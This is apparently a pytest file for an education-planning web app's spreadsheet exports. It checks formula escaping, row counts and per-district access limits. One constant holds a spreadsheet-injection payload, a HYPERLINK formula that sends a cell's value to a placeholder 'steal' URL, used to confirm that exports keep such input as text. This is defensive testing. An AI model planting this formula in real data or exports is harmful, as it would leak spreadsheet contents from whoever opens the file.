"""Every table downloads as a workbook of the rows the page shows, and text typed by
users never becomes a formula in it."""

from __future__ import annotations

import io

import openpyxl

from eduplan.supervision.models import SupervisionOrder

HOSTILE = '=HYPERLINK("http://example.org/steal?"&A1,"点击查看")'


def _sheet(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "filename*=utf-8''" in response["Content-Disposition"].lower()
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def test_a_formula_typed_into_an_order_title_stays_text_in_the_board_export(as_user):
    order = SupervisionOrder.objects.order_by("pk").first()
    SupervisionOrder.objects.filter(pk=order.pk).update(title=HOSTILE)
    sheet = _sheet(as_user("duchashi").get("/supervision/board/", {"export": "orders"}))
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert cells, "the order is in the export"
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row), (
        "no cell of the export is a formula"
    )


def test_the_targets_page_downloads_every_target(as_user):
    from eduplan.plans.models import Target

    sheet = _sheet(as_user("leader").get("/targets/", {"at": "2016B6", "export": "targets"}))
    assert sheet.max_row - 2 == Target.objects.count()  # title and header rows first


def test_a_district_downloads_only_its_own_schools_completeness(as_user):
    from eduplan.org.models import OrgUnit

    client = as_user("jinshui")
    response = client.get("/reports/completeness/class-size/2016T1/", {"org": "410105"})
    assert response.status_code == 200
    sheet = _sheet(
        client.get(
            "/reports/completeness/class-size/2016T1/", {"org": "410105", "export": "completeness"}
        )
    )
    names = {row[0] for row in sheet.iter_rows(min_row=3, values_only=True)}
    jinshui = set(
        OrgUnit.objects.filter(path__startswith="/410100/410105/").values_list("name", flat=True)
    )
    assert names and names <= jinshui
    other = client.get(
        "/reports/completeness/class-size/2016T1/", {"org": "410103", "export": "completeness"}
    )
    assert other.status_code == 403
